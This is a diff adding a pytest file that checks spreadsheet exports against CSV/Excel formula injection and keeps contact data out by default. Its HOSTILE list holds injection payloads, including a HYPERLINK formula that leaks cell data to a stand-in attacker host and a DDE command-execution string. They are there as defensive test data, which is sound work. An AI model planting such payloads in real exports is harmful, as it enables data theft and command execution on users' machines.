@@ -1,0 +1,84 @@
+"""Safe exports: untrusted text arrives inert in CSV and Excel; no contact data by default."""
+
+from __future__ import annotations
+
+import csv
+
+import pandas as pd
+import pytest
+from openpyxl import load_workbook
+
+from engine.exports import FORMULA_STARTS, neutralise, restore, safe_table, write_csv, write_xlsx
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+STORED = [text.replace("\r", "\n") for text in HOSTILE]  # a CR in a cell is written as LF
+
+
+def table() -> pd.DataFrame:
+    return pd.DataFrame(
+        {
+            "visitor_id": ["V1"] * len(HOSTILE),
+            "org_name": HOSTILE,
+            "score": [-5.5, 1.0, 2.0, 3.0, 4.0, 5.0],  # numbers stay numbers, even negative
+            "start": pd.to_datetime(["2027-01-04"] * len(HOSTILE)),
+            "contact_email": ["someone@example.org"] * len(HOSTILE),
+        }
+    )
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_neutralise_makes_text_inert_and_restore_undoes_it(text):
+    safe = neutralise(text)
+    assert not safe.startswith(FORMULA_STARTS)
+    assert restore(safe) == text
+
+
+def test_harmless_values_are_untouched():
+    for value in ("Acme GmbH", "V-1", "", 3, -2.5, None):
+        assert neutralise(value) == value
+        assert restore(value) == value
+    assert restore("'quoted on purpose") == "'quoted on purpose"
+
+
+def test_csv_cells_never_start_with_a_formula_character(tmp_path):
+    path = tmp_path / "out.csv"
+    write_csv(table(), path)
+    with path.open(newline="", encoding="utf-8") as stream:
+        rows = list(csv.DictReader(stream))
+    assert [row["org_name"] for row in rows] == [f"'{text}" for text in STORED]
+    assert rows[0]["score"] == "-5.5" and rows[0]["start"] == "2027-01-04"
+    assert "contact_email" not in rows[0]
+    assert "@example.org" not in path.read_text()
+
+
+def test_excel_cells_hold_text_not_formulas(tmp_path):
+    path = tmp_path / "out.xlsx"
+    write_xlsx({"proposals": table()}, path, choices={"visitor_id": ["V1", "V2"]})
+    sheet = load_workbook(path)["proposals"]
+    header = [cell.value for cell in sheet[1]]
+    assert "contact_email" not in header
+    names = [row[header.index("org_name")] for row in sheet.iter_rows(min_row=2)]
+    assert [cell.data_type for cell in names] == ["s"] * len(HOSTILE)  # no "f" (formula)
+    assert [cell.value for cell in names] == [f"'{text}" for text in STORED]
+    score = sheet.cell(row=2, column=header.index("score") + 1)
+    assert score.value == -5.5 and score.data_type == "n"
+    assert len(sheet.data_validations.dataValidation) == 1
+
+
+def test_contacts_only_when_asked_for():
+    assert "contact_email" not in safe_table(table()).columns
+    assert "contact_email" in safe_table(table(), include_contacts=True).columns
+
+
+def test_control_characters_do_not_break_the_workbook(tmp_path):
+    path = tmp_path / "out.xlsx"
+    write_xlsx({"sheet": pd.DataFrame({"text": ["bell\x07 and nul\x00"]})}, path)
+    assert load_workbook(path)["sheet"].cell(row=2, column=1).value == "bell\ufffd and nul\ufffd"
